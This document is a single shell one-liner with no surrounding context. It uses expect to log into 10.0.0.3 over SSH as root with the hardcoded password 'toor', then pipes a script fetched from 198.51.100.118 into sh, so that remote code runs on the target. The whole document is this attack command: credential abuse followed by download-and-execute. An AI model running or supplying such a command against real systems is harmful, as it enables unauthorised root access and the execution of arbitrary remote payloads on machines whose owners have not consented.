expect -c 'spawn ssh root@10.0.0.3 "curl -s http://198.51.100.118/e | sh"; expect "password:"; send "toor\r"; interact'
